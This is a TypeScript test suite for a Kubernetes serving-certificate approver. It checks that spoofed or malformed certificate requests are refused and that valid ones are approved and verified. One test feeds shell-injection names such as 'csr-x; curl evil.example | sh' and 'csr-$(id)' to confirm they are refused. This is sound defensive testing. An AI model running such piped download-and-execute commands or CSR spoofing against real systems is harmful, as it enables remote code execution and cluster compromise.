import { X509Certificate } from "node:crypto";
import t from "tap";
import type { Instance } from "../../../../client/gce/resources.ts";
import { generateKeys } from "../../../../client/pki/keys.ts";
import { type ApproveOptions, approvePending, resultErrors } from "../../../../client/serving-certificates/approve.ts";
import { outcomeOf, resultDocument, resultText } from "../../../../client/serving-certificates/report.ts";
import { pathOf } from "../../../../client/serving-certificates/requests.ts";
import { watchRequests } from "../../../../client/serving-certificates/watch.ts";
import { KhwError } from "../../../../proto/errors.ts";
import type { KubernetesApi } from "../../../../proto/kubernetes-api.ts";
import {
  now,
  openRequestApi,
  type RequestApiOptions,
  requestObject,
  type RequestOptions,
  workerNames,
  workerNode,
} from "../../../fakes/request-api.ts";
import { never } from "../../../fixtures/machine.ts";

const network = "https://compute.googleapis.com/compute/v1/projects/lab/global/networks/kubernetes-the-hard-way";

function instance(name: string, address: string, changes: Partial<Instance> = {}): Instance {
  return {
    name,
    id: "42",
    zone: "https://compute.googleapis.com/compute/v1/projects/lab/zones/us-west1-c",
    status: "RUNNING",
    metadata: { fingerprint: "", items: [] },
    networkInterfaces: [{ network, networkIP: address, accessConfigs: [{ natIP: "203.0.113.40" }] }],
    ...changes,
  };
}

const machines = [
  instance("controller-0", "10.240.0.10"),
  instance("worker-0", "10.240.0.20"),
  instance("worker-1", "10.240.0.21"),
];

interface Run extends Omit<RequestApiOptions, "requests"> {
  readonly instances?: readonly Instance[];
  readonly options?: Partial<ApproveOptions>;
}

/** Opens a fake API server with these requests, and a fake Compute API with these instances. */
async function open(requests: readonly Record<string, unknown>[], { instances = machines, ...rest }: Run = {}) {
  const { api, ca, calls } = await openRequestApi({ requests, ...rest });
  const asked: string[] = [];
  let waited = 0;
  const context = {
    api,
    compute: {
      instancesNamed: async (project: string, name: string) => {
        asked.push(`${project}/${name}`);
        return instances.filter((one) => one.name === name);
      },
    },
    place: { project: "lab", network: "kubernetes-the-hard-way" },
    reserved: {
      nodes: new Set(["controller-0"]),
      names: new Set(["controller-0", "10.240.0.10", "10.32.0.1", "kubernetes", "kubernetes.default"]),
    },
    roots: [new X509Certificate(ca)],
    now: () => now.getTime(),
    clock: { monotonic: () => waited, delay: async (millis: number) => void (waited += millis) },
    signal: never,
  };
  return { context, calls, asked };
}

async function run(requests: readonly Record<string, unknown>[], { options, ...rest }: Run = {}) {
  const { context, calls, asked } = await open(requests, rest);
  return { ...(await approvePending(context, { nodes: [], report: () => {}, ...options })), calls, asked };
}

const approvals = (calls: readonly string[]) => calls.filter((call) => call.startsWith("PUT"));

t.test("a valid request is approved, and its certificate is verified", async (t) => {
  const { results, calls, asked, approved } = await run([await requestObject()]);
  const path = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
  t.strictSame(calls, [`GET ${path}`, "GET /api/v1/nodes/worker-0", `PUT ${path}/csr-1/approval`, `GET ${path}/csr-1`]);
  t.strictSame(asked, ["lab/worker-0"]);
  t.strictSame([...approved], ["worker-0"]);
  t.strictSame(results.map(outcomeOf), ["approved"]);
  t.strictSame(resultErrors(results), []);
  const [result] = results;
  if (result === undefined) throw new Error("no result");
  t.match(resultText(result), /^csr-1: worker-0: approved\n {2}names: "worker-0", "10\.240\.0\.20"\n/);
  t.match(resultDocument(result), {
    request: "csr-1",
    node: "worker-0",
    outcome: "approved",
    dnsNames: ["worker-0"],
    addresses: ["10.240.0.20"],
    instance: { name: "worker-0", zone: "us-west1-c", id: "42" },
    expires: /^\d{4}-/,
  });
});

t.test("the keys, usages and names that kubelets of any release use are accepted", async (t) => {
  const long = "worker-0.us-west1-c.c.lab.internal";
  const nodes = {
    "worker-0": {
      spec: { providerID: "gce://lab/us-west1-c/worker-0" },
      status: {
        addresses: [
          ...workerNode.status.addresses,
          { type: "InternalDNS", address: long },
          { type: "ExternalIP", address: "203.0.113.40" },
        ],
      },
    },
  };
  const names = [...workerNames, { type: "dns", value: long }, { type: "ip", value: "203.0.113.40" }] as const;
  const requests = [
    await requestObject({ usages: ["server auth", "digital signature"] }),
    await requestObject({ name: "csr-2", names }),
  ];
  const { results } = await run(requests, { nodes });
  t.strictSame(results.map(outcomeOf), ["approved", "approved"]);
});

t.test("a request is accepted in the encoding that the kubelets' library produces", async (t) => {
  // Created with crypto/x509 of Go 1.15.
  const recorded = `-----BEGIN CERTIFICATE REQUEST-----
MIIBHTCBxAIBADA2MRUwEwYDVQQKEwxzeXN0ZW06bm9kZXMxHTAbBgNVBAMTFHN5
c3RlbTpub2RlOndvcmtlci0wMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEUllH
XEiT1fQgXIpHxkXN856De35V4j8lId6vxxW1zbGaNf1zQOOxPCBI7JboXaZ5UKcs
+FgGf7zHi+uU4PHb56AsMCoGCSqGSIb3DQEJDjEdMBswGQYDVR0RBBIwEIIId29y
a2VyLTCHBArwABQwCgYIKoZIzj0EAwIDSAAwRQIhAPh5rhQgiTtGuepFLlmDBAPJ
qXVbcEr2wZwPbyuughgyAiAeHm+bu2hHsw/x9TAXhnzzhYJSg8EV2V1/bNP6OHai
1A==
-----END CERTIFICATE REQUEST-----
`;
  const { results } = await run([await requestObject({ change: () => recorded })]);
  t.strictSame(results.map(outcomeOf), ["approved"]);
  const moved = Buffer.from(unwrap(recorded));
  moved.writeUInt8(0x15, moved.indexOf(Buffer.from([10, 240, 0, 20])) + 3);
  const changed = await run([await requestObject({ change: () => wrap(moved) })]);
  t.match(resultErrors(changed.results), [{ message: /not signed with its own key/ }]);
});

const user = (name: string) => ({
  username: `system:node:${name}`,
  subject: [{ O: ["system:nodes"] }, { CN: [`system:node:${name}`] }],
});
const dns = (...values: readonly string[]) => values.map((value) => ({ type: "dns", value }) as const);
const weak = await webKeys(1024);

async function webKeys(modulusLength: number) {
  const algorithm = {
    name: "RSASSA-PKCS1-v1_5",
    hash: "SHA-256",
    modulusLength,
    publicExponent: new Uint8Array([1, 0, 1]),
  };
  return crypto.subtle.generateKey(algorithm, true, ["sign", "verify"]);
}

/** Damages the signature, which is at the end of the request. */
function flip(pem: string): string {
  const der = Buffer.from(pem.replaceAll(/-----[^-]+-----|\s/g, ""), "base64");
  der.writeUInt8(der.readUInt8(der.length - 1) ^ 1, der.length - 1);
  return wrap(der);
}

function wrap(der: Buffer): string {
  return `-----BEGIN CERTIFICATE REQUEST-----\n${der.toString("base64")}\n-----END CERTIFICATE REQUEST-----\n`;
}

function unwrap(pem: string): Buffer {
  return Buffer.from(pem.replaceAll(/-----[^-]+-----|\s/g, ""), "base64");
}

/** The attacks, each with the reason for its refusal. */
const attacks: readonly (readonly [title: string, options: RequestOptions, reason: RegExp])[] = [
  [
    "the request has the address of another node",
    { names: [{ type: "ip", value: "10.240.0.21" }] },
    /"10\.240\.0\.21" is not an address of the Node object/,
  ],
  [
    "the request has the name of another node",
    { names: dns("worker-1") },
    /"worker-1" is not an address of the Node object/,
  ],
  [
    "a controller's address",
    { names: [{ type: "ip", value: "10.240.0.10" }] },
    /"10\.240\.0\.10" belongs to the control plane/,
  ],
  ["a controller's name", { names: dns("worker-0", "controller-0") }, /"controller-0" belongs to the control plane/],
  ["the API server's name", { names: dns("kubernetes.default") }, /"kubernetes\.default" belongs to the control plane/],
  [
    "the node in the request is a controller",
    { ...user("controller-0"), names: dns("controller-0") },
    /controller-0 is a controller/,
  ],
  ["a wildcard", { names: dns("*.c.lab.internal") }, /"\*\.c\.lab\.internal" is not an address of the Node object/],
  ["an IPv6 address", { names: [{ type: "ip", value: "2001:db8::1" }] }, /is not an address of the Node object/],
  [
    "an e-mail address",
    { names: [...workerNames, { type: "email", value: "a@b.example" }] },
    /neither DNS names nor addresses/,
  ],
  ["a URI", { names: [...workerNames, { type: "url", value: "spiffe://a/b" }] }, /neither DNS names nor addresses/],
  ["no name", { names: [] }, /requests no alternative name/],
  ["client auth", { usages: ["digital signature", "server auth", "client auth"] }, /its usages are/],
  ["cert sign", { usages: ["digital signature", "server auth", "cert sign"] }, /its usages are/],
  ["a usage twice", { usages: ["server auth", "server auth"] }, /its usages are/],
  ["no usage", { usages: [] }, /its usages are/],
  ["another requestor", { username: "system:node:worker-1" }, /its subject is not exactly CN=system:node:worker-1/],
  ["a bootstrap token", { username: "system:bootstrap:abcdef", groups: ["system:bootstrappers"] }, /is not a kubelet/],
  ["the requestor is not in the group of nodes", { groups: ["system:authenticated"] }, /is not a kubelet/],
  ["the requestor's name contains a path", { username: "system:node:../secrets/x" }, /is not a kubelet/],
  ["another organization", { subject: [{ O: ["system:masters"] }, { CN: ["system:node:worker-0"] }] }, /its subject/],
  [
    "two organizations",
    { subject: [{ O: ["system:nodes"] }, { O: ["system:masters"] }, { CN: ["system:node:worker-0"] }] },
    /its subject/,
  ],
  ["two names", { subject: [{ CN: ["system:node:worker-0"] }, { CN: ["system:node:worker-0"] }] }, /its subject/],
  ["another CN", { subject: [{ O: ["system:nodes"] }, { CN: ["system:node:worker-1"] }] }, /its subject/],
  ["a damaged signature", { change: flip }, /not signed with its own key/],
  ["a weak key", { keys: weak }, /its key is RSA with 1024 bits/],
  ["SHA-1", { hash: "SHA-1" }, /weak hash/],
  ["a CA", { moreExtensions: "ca" }, /extensions other than one subjectAltName/],
  ["the request has a second list of names", { moreExtensions: "names" }, /extensions other than one subjectAltName/],
  ["another attribute", { challenge: true }, /exactly one attribute/],
  ["garbage", { change: () => "garbage" }, /not a single PEM block/],
  ["two blocks", { change: (pem) => pem + pem }, /not a single PEM block/],
  ["text before the block", { change: (pem) => `x\n${pem}` }, /not a single PEM block/],
  ["damaged DER", { change: (pem) => wrap(unwrap(pem).subarray(0, 100)) }, /encoding is damaged|not signed/],
  [
    "bytes after the request",
    { change: (pem) => wrap(Buffer.concat([unwrap(pem), Buffer.from([5, 0])])) },
    /encoding is damaged|not signed/,
  ],
];

for (const [title, options, reason] of attacks) {
  t.test(`a request is refused and stays pending: ${title}`, async (t) => {
    const { results, calls } = await run([await requestObject(options)]);
    t.strictSame(results.map(outcomeOf), ["refused"]);
    t.strictSame(approvals(calls), []);
    const [error, ...others] = resultErrors(results);
    t.strictSame(others, []);
    t.match(error, { code: "CREDENTIAL_INVALID", message: reason, hint: /kubectl certificate deny csr-1/ });
  });
}

t.test("a name with shell syntax is refused, and never becomes part of a command", async (t) => {
  const names = [
    "csr-x; curl evil.example | sh",
    "csr-$(id)",
    "csr-1\n",
    "csr-1?a",
    "csr-1#a",
    "-f",
    "x".repeat(254),
    "",
  ];
  for (const name of names) {
    const { results, calls } = await run([await requestObject({ name })]);
    t.strictSame(results.map(outcomeOf), ["refused"], name);
    t.equal(calls.length, 1, name);
    const [error] = resultErrors(results);
    t.match(
      error,
      { code: "CREDENTIAL_INVALID", message: /its name contains characters other than lower-case letters/ },
      name,
    );
    t.notMatch(error?.hint, /kubectl|csr-/, name);
    t.ok(
      results.every((result) => resultText(result).startsWith('"')),
      name,
    );
  }
  t.match(pathOf({ name: "a?b#c" }), /\/a%3Fb%23c$/);
  const stranger = await run([await requestObject({ name: "a;b", username: "system:bootstrap:abcdef" })]);
  t.match(resultErrors(stranger.results), [
    { message: /^"a;b" is refused: its name .*; its requestor .* not a kubelet/ },
  ]);
});

t.test("a request for another signer is ignored", async (t) => {
  const signers = ["kubernetes.io/kube-apiserver-client-kubelet", "kubernetes.io/legacy-unknown"];
  const requests = await Promise.all(signers.map((signerName) => requestObject({ signerName })));
  const { results, calls } = await run(requests);
  t.strictSame(results, []);
  t.equal(calls.length, 1);
});

t.test("a request that matches its Node object is still refused if it contradicts the Compute API", async (t) => {
  const node = (address: string, providerID = "") => ({
    "worker-0": {
      spec: { providerID },
      status: { addresses: [{ type: "InternalIP", address }, ...workerNode.status.addresses] },
    },
  });
  const other = `${network.slice(0, -"kubernetes-the-hard-way".length)}default`;
  const elsewhere = { networkInterfaces: [{ network: other, networkIP: "10.240.0.20", accessConfigs: [] }] };
  const stolen = await requestObject({ names: [{ type: "ip", value: "10.240.0.21" }] });
  const usual = await requestObject();
  const domain = await requestObject(user("worker-0.evil.example"));
  for (const [title, request, options, reason] of [
    [
      "another instance's address",
      stolen,
      { nodes: node("10.240.0.21") },
      /"10\.240\.0\.21" is not a name or address of the instance/,
    ],
    [
      "a name in another domain is refused",
      domain,
      { nodes: { "worker-0.evil.example": workerNode } },
      /"worker-0\.evil\.example" is not a name of the instance/,
    ],
    ["no instance", usual, { instances: [] }, /the Compute API has no instance worker-0/],
    [
      "an instance in another network is not accepted",
      usual,
      { instances: [instance("worker-0", "", elsewhere)] },
      /no instance worker-0 \(project lab, network/,
    ],
    ["two instances", usual, { instances: [...machines, ...machines] }, /several instances worker-0/],
    [
      "a stopped instance",
      usual,
      { instances: [instance("worker-0", "10.240.0.20", { status: "TERMINATED" })] },
      /the state of the instance worker-0 is TERMINATED/,
    ],
    [
      "another address",
      usual,
      { instances: [instance("worker-0", "10.240.0.29")] },
      /"10\.240\.0\.20" is not a name or address/,
    ],
    [
      "another providerID",
      usual,
      { nodes: node("10.240.0.20", "gce://lab/us-west1-c/worker-1") },
      /providerID is "gce:\/\/lab\/us-west1-c\/worker-1" instead of/,
    ],
    ["no Node", usual, { nodes: {} }, /there is no Node object worker-0/],
  ] as const) {
    const { results, calls } = await run([request], options);
    t.strictSame(approvals(calls), [], title);
    t.match(resultErrors(results), [{ code: "CREDENTIAL_INVALID", message: reason }], title);
  }
});

t.test("an abandoned request stays pending and does not cause an error", async (t) => {
  const { results, calls } = await run([await requestObject({ ageMinutes: 16 })]);
  t.strictSame(results.map(outcomeOf), ["abandoned"]);
  t.equal(calls.length, 1);
  t.strictSame(resultErrors(results), []);
});

t.test("each request is decided separately, and requests that are already decided are ignored", async (t) => {
  const requests = [
    await requestObject({ name: "csr-done", conditions: ["Approved"] }),
    await requestObject({ name: "csr-denied", ...user("worker-1"), conditions: ["Denied"] }),
    await requestObject({ name: "csr-bad", names: dns("controller-0"), ageMinutes: 3 }),
    await requestObject({ name: "csr-good", ageMinutes: 2 }),
  ];
  const { results, calls, approved } = await run(requests);
  t.strictSame(
    results.map((result) => [result.request, outcomeOf(result)]),
    [
      ["csr-bad", "refused"],
      ["csr-good", "approved"],
    ],
  );
  t.equal(approvals(calls).length, 1);
  t.strictSame([...approved], ["worker-0"]);
  const named = await run(requests, { options: { nodes: ["worker-1"] } });
  t.strictSame(named.results, []);
  t.strictSame([...named.approved], []);
});

t.test("a wrong certificate, a changed request and a missing certificate are errors", async (t) => {
  const keys = await generateKeys("ecdsa");
  for (const [title, options, message] of [
    ["another CA", { otherCa: true }, /wrong: it was not issued by the CA/],
    ["other names", { issuedNames: ["worker-0", "kubernetes"] }, /wrong: its names differ/],
    ["no certificate", { issues: false }, /is approved, but there is no certificate/],
    ["a conflict", { approval: 409 }, /has changed since it was checked, so it is not approved/],
    ["no permission", { approval: 403 }, /answered PUT .* with status 403/],
  ] as const) {
    const { results, approved } = await run([await requestObject({ keys })], options);
    t.strictSame(results.map(outcomeOf), ["failed"], title);
    t.match(resultErrors(results), [{ code: "VERIFY_FAILED", message }], title);
    t.strictSame([...approved], [], title);
  }
});

t.test(
  "a watch reports each change once, continues after API failures, and ends after the last named node",
  async (t) => {
    const requests = [await requestObject({ name: "csr-bad", names: dns("controller-0") })];
    const { context } = await open(requests);
    const [written, warned]: [string[], string[]] = [[], []];
    let rounds = 0;
    const delay = async (): Promise<void> => {
      rounds += 1;
      if (rounds === 4) requests.splice(0, 1, await requestObject());
    };
    const api: KubernetesApi = async (...call) => {
      if (rounds === 1 || rounds === 2) throw new KhwError("UNREACHABLE", "no answer");
      return context.api(...call);
    };
    const options = {
      nodes: ["worker-0"],
      format: resultText,
      write: (text: string) => void written.push(text.split("\n")[0] ?? ""),
      warn: (text: string) => void warned.push(text),
    };
    const clock = { monotonic: () => 0, delay };
    t.equal(await watchRequests({ ...context, api, clock }, options), true);
    t.strictSame(written, ["csr-bad: worker-0: refused", "csr-1: worker-0: approved"]);
    t.strictSame(warned, ["warning: no answer\n"]);
    t.equal(rounds, 4);
  },
);

t.test("a request that was approved earlier counts only if its certificate is valid", async (t) => {
  for (const [title, options, expected] of [
    ["a valid certificate", {}, ["worker-0"]],
    ["another CA", { otherCa: true }, []],
    ["other names", { issuedNames: ["worker-0", "kubernetes"] }, []],
    ["no certificate", { issues: false }, []],
  ] as const) {
    const { context } = await open([await requestObject()], options);
    const passOptions = { nodes: ["worker-0"], report: () => {} };
    await approvePending(context, passOptions);
    const again = await approvePending(context, passOptions);
    t.strictSame(again.results, [], title);
    t.strictSame([...again.approved], expected, title);
  }
});

t.test(
  "a watch counts neither a failed request nor a request that was approved before the watch started",
  async (t) => {
    const requests = [await requestObject({ name: "csr-before" })];
    const { context } = await open(requests);
    await approvePending(context, { nodes: [], report: () => {} });
    let rounds = 0;
    const delay = async (): Promise<void> => {
      rounds += 1;
      if (rounds === 2) requests.push(await requestObject({ name: "csr-new" }));
    };
    const written: string[] = [];
    const options = {
      nodes: ["worker-0"],
      format: (result: Parameters<typeof resultText>[0]) => `${result.request}: ${outcomeOf(result)}`,
      write: (text: string) => void written.push(text),
      warn: () => {},
    };
    t.equal(await watchRequests({ ...context, clock: { monotonic: () => 0, delay } }, options), true);
    t.strictSame(written, ["csr-new: approved"]);
    t.equal(rounds, 2);

    const stop = new AbortController();
    const wrong = await open([await requestObject()], { otherCa: true });
    let pauses = 0;
    const clock = { monotonic: () => 0, delay: async () => void (++pauses === 3 && stop.abort(new Error("stop"))) };
    t.equal(await watchRequests({ ...wrong.context, clock, signal: stop.signal }, options), false);
    t.strictSame(written, ["csr-new: approved", "csr-1: failed"]);
    t.equal(pauses, 3);
  },
);

t.test("a watch ends after Ctrl-C, and immediately after an error that waiting cannot fix", async (t) => {
  const stop = new AbortController();
  const { context } = await open([]);
  const clock = { monotonic: () => 0, delay: async () => stop.abort(new Error("stop")) };
  const options = { nodes: ["worker-0"], format: resultText, write: () => {}, warn: () => {} };
  t.equal(await watchRequests({ ...context, clock, signal: stop.signal }, options), false);
  const api: KubernetesApi = async () => ({ status: 403, body: {} });
  await t.rejects(watchRequests({ ...context, api }, options), { code: "VERIFY_FAILED", message: /status 403/ });
});
